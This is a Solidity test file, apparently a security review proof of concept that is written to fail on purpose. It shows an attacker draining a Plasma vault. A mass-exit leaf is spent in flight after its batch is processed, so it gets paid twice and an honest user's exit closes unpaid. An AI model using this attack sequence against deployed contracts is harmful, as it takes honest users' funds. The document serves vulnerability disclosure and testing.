// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {MassExitTestBase} from "../utils/MassExitTestBase.sol";
import {InFlightTestBase} from "../utils/InFlightTestBase.sol";
import {PlasmaTestBase} from "../utils/PlasmaTestBase.sol";
import {MassExitGame} from "../../src/games/MassExitGame.sol";

/// @notice REVIEW PoC, FAILS ON PURPOSE (the test asserts the promise and the attack breaks it).
///
///         `takenFrom` keeps a batch from asking the vault for a leaf that a canonical in-flight transaction
///         spent before the batch was processed. After processing the window stays open: the batch already
///         moved the leaf's amount into its escrow, but still only *holds* the leaf's key (it is marked
///         exited at `withdrawMassExit`), so `isOutputExited` is false and an in-flight exit of a transaction
///         spending that leaf, started after processing, is canonical: it marks the key exited and pays its
///         outputs from the vault a second time. The escrow only returns to the vault when somebody withdraws
///         the batch, which nobody but the attacker has a reason to do. An honest exit processed meanwhile
///         finds the vault short and is closed for good, with nothing paid. No operator fault and no invalid
///         block are needed; the attacker's bonds all come back (less bounties it can collect itself).
contract LeafSpentAfterProcessingTest is InFlightTestBase, MassExitTestBase {
    address internal mallory;
    uint256 internal malloryKey;
    address internal mallory2; // mallory's second address

    event PayoutShort(address indexed owner, address indexed token, uint256 amount);

    function setUp() public override(InFlightTestBase, PlasmaTestBase) {
        InFlightTestBase.setUp();
        (mallory, malloryKey) = makeAddrAndKey("mallory");
        mallory2 = makeAddr("mallory2");
        vm.deal(mallory, 10 ether);
        vm.deal(mallory2, 10 ether);
    }

    function test_attack_leafSpentInFlightAfterItsBatchWasProcessed_honestExitFindsTheVaultShort() public {
        // mallory mass-exits her own 1 ETH deposit; the batch is processed and its escrow leaves the vault
        Input memory o = _depositInput(mallory, malloryKey, 1 ether);
        MassExitGame.MassExitItem[] memory items = new MassExitGame.MassExitItem[](1);
        items[0] = _depositItem(o.position, o.txBytes, o.inc);
        uint256 batchId = _startMass(mallory, address(0), items);
        (,,,, uint256 batchAt,,) = massGame.massExits(batchId);
        vm.warp(batchAt);
        vm.prank(processor);
        assertEq(fw.processExits(address(0), 10), 1, "the batch");
        assertEq(address(massGame).balance, 1 ether, "the escrow left the vault");
        assertTrue(!fw.isOutputExited(bytes32(o.position)), "the leaf is only held until the batch is withdrawn");

        // nobody withdraws the batch; mallory spends the same deposit in flight to her second address
        vm.warp(block.timestamp + 1);
        Ife memory f = _build(_one(o), _outs1(mallory2, 1 ether), bytes32(0));
        _startIfe(mallory2, f);
        _pbOut(mallory2, f, 0);

        // alice, honest, deposits 1 ETH and exits it; no block is invalid, nothing is forged
        (uint256 d, bytes memory t, Included memory inc) = _depositEth(alice, 1 ether);
        _startExit(alice, d, t, inc);

        vm.warp(_exitableAt(f.txBytes));
        uint256 alice0 = alice.balance;
        uint256 m2 = mallory2.balance;
        vm.expectEmit(true, true, true, true);
        emit PayoutShort(alice, address(0), 1 ether + BOND - BOUNTY);
        vm.prank(processor);
        assertEq(fw.processExits(address(0), 10), 2, "the in-flight exit (older position), then alice");
        assertEq(mallory2.balance, m2 + 1 ether + PB_REFUND + IFE_BOND, "the leaf is paid a second time");

        // the batch's escrow returns to the vault only now, where it belongs to nobody
        MassExitGame.MassExitLeaf[] memory leaves = new MassExitGame.MassExitLeaf[](1);
        leaves[0] = _depositLeaf(o.position, mallory, 1 ether);
        massGame.withdrawMassExit(batchId, leaves);
        assertEq(address(fw).balance, 1 ether + BOND - BOUNTY, "alice's money sits in the vault, owed to no one");
        assertTrue(fw.isExited(d), "alice's exit is closed for good");
        // the promise: an honest output in a valid block is paid in full
        assertEq(alice.balance, alice0 + 1 ether + BOND - BOUNTY, "alice paid in full (FAILS: nothing paid)");
    }
}
